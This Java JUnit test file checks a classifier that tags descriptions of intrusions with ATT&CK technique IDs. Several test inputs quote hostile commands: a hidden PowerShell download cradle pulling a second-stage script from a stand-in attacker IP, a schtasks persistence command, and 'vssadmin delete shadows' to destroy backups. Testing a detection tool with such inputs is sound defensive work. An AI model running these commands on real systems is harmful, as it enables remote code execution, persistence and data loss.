package dev.attacktagger.classifier;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;

import org.junit.jupiter.api.Test;

class TechniqueTaggerTest {

    private final TechniqueTagger tagger = ReleasedModel.tagger();

    private List<String> ids(String text) {
        return tagger.classify(text, ClassifyOptions.DEFAULT).techniques().stream()
                .map(TechniqueTag::id)
                .toList();
    }

    @Test
    void shouldFindCredentialDumpingFromLsassMemory() {
        assertThat(ids("The attackers opened the memory of the lsass.exe process and wrote a minidump of it, then "
                        + "extracted cached password hashes and Kerberos tickets from that dump."))
                .contains("T1003.001");
    }

    @Test
    void shouldFindPowerShellAndToolTransferInDownloadCradle() {
        assertThat(ids("The macro launched powershell.exe -nop -w hidden -c \"IEX (New-Object "
                        + "Net.WebClient).DownloadString('http://203.0.113.9/stage2.ps1')\" to download the second "
                        + "stage payload from the attacker's server and run it in memory."))
                .contains("T1059.001", "T1105");
    }

    @Test
    void shouldFindScheduledTaskPersistence() {
        assertThat(ids("To survive reboots, the implant created a scheduled task with schtasks /create /sc onlogon "
                        + "/tn Updater /tr C:\\Users\\Public\\upd.exe that runs every time a user logs on."))
                .contains("T1053.005");
    }

    @Test
    void shouldFindRansomwareEncryption() {
        assertThat(ids("The ransomware encrypted the documents, databases and backups on every drive of the victim "
                        + "and left a note demanding a ransom in Bitcoin for the decryption key."))
                .contains("T1486");
    }

    @Test
    void shouldKeepConfidencesInUnitIntervalAndEvidenceOffsetsExact() {
        String text = "Quarterly results were discussed at length.\n\nThe ransomware encrypted the documents on "
                + "every drive and demanded a ransom for the key. Then it deleted the volume shadow copies with "
                + "vssadmin delete shadows /all /quiet so that nothing could be restored.";
        Classification classification = tagger.classify(text, ClassifyOptions.DEFAULT);

        assertThat(classification.techniques()).isNotEmpty();
        assertThat(classification.sentences()).isEqualTo(3);
        for (TechniqueTag tag : classification.techniques()) {
            assertThat(tag.confidence()).isBetween(0.0, 1.0);
            for (Evidence evidence : tag.evidence()) {
                assertThat(text.substring(evidence.start(), evidence.end())).isEqualTo(evidence.text());
                assertThat(evidence.score()).isBetween(0.0, 1.0);
            }
        }
        assertThat(classification.techniques())
                .extracting(TechniqueTag::confidence)
                .isSortedAccordingTo((a, b) -> Double.compare(b, a));
    }

    @Test
    void shouldListEveryTechniqueWithAllScores() {
        Classification classification = tagger.classify("Nothing to see here.", new ClassifyOptions(null, true, false));

        assertThat(classification.techniques()).hasSize(691);
        assertThat(classification.techniques()).allSatisfy(tag -> {
            assertThat(tag.confidence()).isBetween(0.0, 1.0);
            assertThat(tag.evidence()).isEmpty();
        });
    }

    @Test
    void shouldTagNothingInEmptyText() {
        Classification classification = tagger.classify("", ClassifyOptions.DEFAULT);

        assertThat(classification.techniques()).isEmpty();
        assertThat(classification.sentences()).isZero();
    }

    @Test
    void shouldRejectUnknownDevice() {
        assertThatThrownBy(() -> new EncoderSettings("tpu", 1, 1))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("expected device auto, cpu or cuda, found tpu");
    }
}
